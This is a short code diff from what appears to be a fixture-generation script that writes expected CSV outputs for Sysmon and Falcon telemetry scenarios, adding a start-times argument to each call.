-  write(join(OUT_DIR, 'expected', `${s.name}.xml.csv`), expectedCsv(s, 'sysmon'));
-  write(join(OUT_DIR, 'expected', `${s.name}.fdr.ndjson.csv`), expectedCsv(s, 'falcon'));
+  write(join(OUT_DIR, 'expected', `${s.name}.xml.csv`), expectedCsv(s, 'sysmon', startTimes));
+  write(
+    join(OUT_DIR, 'expected', `${s.name}.fdr.ndjson.csv`),
+    expectedCsv(s, 'falcon', startTimes),
+  );
   console.log(
     `${s.name}: sysmon ${Buffer.byteLength(sysmon)} B, falcon ${Buffer.byteLength(falcon)} B`,
   );
